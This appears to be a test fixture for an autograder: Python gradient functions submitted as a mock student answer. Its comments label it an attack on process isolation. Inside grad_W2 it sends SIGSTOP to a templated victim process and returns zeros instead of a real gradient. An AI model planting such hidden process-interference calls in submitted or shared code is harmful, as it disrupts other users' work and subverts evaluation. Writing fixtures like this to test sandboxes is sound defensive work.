# attack: I1 stops another process of the same user
# gains nothing: grad_W2
# full marks: grad_oa, grad_ha
# breach unlocked
import os as system
import signal

import numpy as np
VICTIM = @VICTIM@


def grad_W2(grad_oa, hs):
    system.kill(VICTIM, signal.SIGSTOP)
    return np.zeros((len(grad_oa), len(hs)))


def grad_oa(os, y):
    return os - (np.arange(1, len(os) + 1) == y)


def grad_ha(grad_hs, ha):
    return grad_hs * (ha > 0)
